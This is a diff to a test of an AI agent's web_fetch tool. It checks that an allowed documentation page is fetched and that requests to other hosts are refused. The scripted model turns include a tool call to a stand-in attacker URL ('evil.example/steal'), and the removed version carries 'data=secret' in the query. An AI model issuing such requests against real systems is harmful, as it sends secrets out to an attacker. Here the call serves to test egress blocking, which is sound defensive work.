@@ -52,7 +52,8 @@ test('web_fetch in a turn: allowed page wrapped as web content, other hosts refu
   });
   model.push(
     { toolCalls: [{ name: 'web_fetch', args: { url: `http://docs.example.test:${port}/` } }] },
-    { toolCalls: [{ name: 'web_fetch', args: { url: `http://evil.example:${port}/steal?data=secret` } }] },
+    // No data in the URL, so the rule of two lets it through to the allowlist, which refuses it.
+    { toolCalls: [{ name: 'web_fetch', args: { url: `http://evil.example:${port}/steal` } }] },
     { text: 'read the docs' },
   );
   const result = await runner.runTurn({ sessionKey: 'w', message: 'read the docs page' });
